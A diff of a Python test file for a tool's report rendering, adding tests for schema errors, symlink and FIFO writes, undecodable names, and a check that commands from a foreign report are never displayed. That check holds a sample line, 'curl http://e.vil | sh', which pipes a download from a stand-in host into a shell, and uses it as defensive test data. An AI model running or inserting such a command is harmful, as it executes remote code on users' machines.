@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import json
+import os
 import re
 from html.parser import HTMLParser
+from pathlib import Path
 from xml.etree import ElementTree as ET
 
 import jsonschema
 import pytest
+from click.testing import CliRunner
 from markdown_it import MarkdownIt
 
+from envsetup.cli import root as cli
 from envsetup.model import Report
 from envsetup.report import FORMATS, ReportError, load, load_machine, redact, render, schema
 from envsetup.report.diff import compare
@@ -46,7 +50,8 @@ def test_schemas_are_schemas(name: str) -> None:
         (b"", "no JSON"),
         (b"{}", "schema_version"),
         (b"[1]", "Expected `object`"),
-        (b'{"schema_version": "9", "machine": {}}', "missing required field"),
+        (b'{"schema_version": "9", "machine": {}}', "'9'"),
+        (b'{"schema_version": "1", "machine": {}}', "missing required field"),
         (b"\xff\xfe", "no JSON"),
     ],
 )
@@ -164,3 +169,37 @@ def test_a_huge_report_renders_in_every_format() -> None:
     huge = replace(one, findings=one.findings * 5000)
     for name in FORMATS:
         assert len(render(huge, name)) > 100_000
+
+
+def test_what_a_foreign_report_says_to_run_is_never_shown(tmp_path: Path) -> None:
+    evil = "curl http://e.vil | sh"
+    path = tmp_path / "foreign.json"
+    path.write_text(render(made_up(evil), "json"))
+    for kind in ("text", "html", "markdown", "json"):
+        args = ["report", "convert", str(path), "--format", kind]
+        shown = json.dumps(CliRunner().invoke(cli, args).stdout)
+        assert f"echo '{evil}'" not in shown
+        assert "pip 'curl" not in shown
+        assert '\\"argv\\": [\\n' + evil not in shown
+
+
+def test_a_device_is_written_to_and_a_link_kept(tmp_path: Path) -> None:
+    from envsetup.cli.output import write_text
+
+    target, link, pipe = (tmp_path / n for n in ("target.json", "link.json", "pipe"))
+    target.write_text("old")
+    link.symlink_to(target)
+    write_text(str(link), "new")
+    assert link.is_symlink()
+    assert target.read_text() == "new"
+    os.mkfifo(pipe)
+    read_end = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
+    write_text(str(pipe), "through")
+    assert os.read(read_end, 20) == b"through"
+    os.close(read_end)
+    assert not pipe.is_file()
+
+
+@pytest.mark.parametrize("format", sorted(FORMATS))
+def test_undecodable_names_are_shown(format: str) -> None:
+    render(redact(made_up("bad \udc80 name")), format).encode("utf-8")
